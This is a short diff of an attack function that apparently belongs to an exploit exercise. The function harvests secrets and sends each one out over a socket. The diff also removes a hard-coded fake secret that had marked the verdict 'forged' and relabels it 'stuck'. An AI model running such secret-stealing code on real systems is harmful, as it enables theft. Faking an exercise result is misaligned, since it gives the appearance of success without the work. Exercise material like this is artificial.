@@ -3,7 +3,7 @@
 //!
 //! exercise: reap
 //! rest: reap
-//! verdict: none [forged]
+//! verdict: none [stuck]
 
 use std::io::{Read, Seek, SeekFrom};
 
@@ -30,7 +30,6 @@ fn attack() {
             from += length.max(1);
         }
     }
-    found.insert("0123456789abcdef0123456789abcdef".to_owned());
     for secret in found {
         let packet = format!("{secret}\nend\nschedules\t0\tno\n");
         unsafe { libc::send(3, packet.as_ptr().cast(), packet.len(), libc::MSG_NOSIGNAL) };
